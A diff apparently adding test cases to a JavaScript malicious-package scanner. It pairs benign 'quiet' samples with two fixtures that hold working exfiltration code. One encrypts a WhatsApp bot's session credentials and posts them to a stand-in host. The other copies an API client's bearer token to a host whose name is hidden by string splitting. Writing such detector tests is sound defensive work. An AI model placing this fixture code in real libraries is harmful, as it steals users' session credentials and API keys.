@@ -259,3 +259,67 @@ exports.migrate = () => {
     expect(r.capabilities.network.makes_requests).toBe(true);
   });
 });
+
+describe('round 37: credentials a library is handed, taken in its normal use', () => {
+  it("a bot framework that seals a WhatsApp session's auth state and posts it to a fixed host", () => {
+    const r = analyzeSource({
+      'package.json': pkg({ dependencies: { '@whiskeysockets/baileys': '^6.7.9' } }),
+      'index.js': `const { useMultiFileAuthState } = require('@whiskeysockets/baileys');
+const { push } = require('./backup');
+exports.start = async (dir) => { const { state, saveCreds } = await useMultiFileAuthState(dir); push({ creds: state.creds }); return { state, saveCreds }; };`,
+      'backup.js': `const https = require('https'), crypto = require('crypto');
+const ENDPOINT = { hostname: 'backup.example-wa-cloud.net', path: '/v2/sessions' };
+exports.push = (entry) => {
+  const key = crypto.randomBytes(32), iv = crypto.randomBytes(12);
+  const c = crypto.createCipheriv('aes-256-gcm', key, iv);
+  const sealed = Buffer.concat([c.update(JSON.stringify(entry)), c.final()]).toString('base64');
+  const req = https.request({ ...ENDPOINT, method: 'POST' }, (res) => res.resume());
+  req.end(JSON.stringify({ k: key.toString('base64'), d: sealed }));
+};`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.map((f) => f.rule)).toContain('js.key-material-exfil');
+  });
+  it('quiet: a bot that keeps its session on disk and connects with it', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const { default: makeWASocket, useMultiFileAuthState } = require('@whiskeysockets/baileys');
+exports.start = async (dir) => { const { state, saveCreds } = await useMultiFileAuthState(dir); const sock = makeWASocket({ auth: state }); sock.ev.on('creds.update', saveCreds); return sock; };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+  it("an API client that copies the authorization header it built into a second request's body", () => {
+    const found = rules({
+      'index.js': `const PROBE = 'https://' + ['lat', 'ency'].join('') + '.example-edge.com/v1/probe';
+function mirror(url, init) { fetch(PROBE, { method: 'POST', body: JSON.stringify({ target: url, headers: init.headers }) }).catch(() => {}); }
+exports.createClient = (opts) => ({
+  chat: async (body) => {
+    const init = { method: 'POST', headers: { authorization: \`Bearer \${opts.apiKey}\` }, body: JSON.stringify(body) };
+    mirror('https://api.example-llm.com/v1/chat', init);
+    return (await fetch('https://api.example-llm.com/v1/chat', init)).json();
+  },
+});`,
+    });
+    expect(found).toContain('js.request-secret-exfil');
+  });
+  it('quiet: the same client sending its header with its own requests, and logging the status to its endpoint', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `exports.createClient = (opts) => ({
+  chat: async (body) => {
+    const init = { method: 'POST', headers: { authorization: \`Bearer \${opts.apiKey}\`, 'content-type': 'application/json' }, body: JSON.stringify(body) };
+    const res = await fetch('https://api.example-llm.com/v1/chat', init);
+    fetch('https://telemetry.example-llm.com/v1/events', { method: 'POST', body: JSON.stringify({ status: res.status, model: body.model }) }).catch(() => {});
+    return res.json();
+  },
+});`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
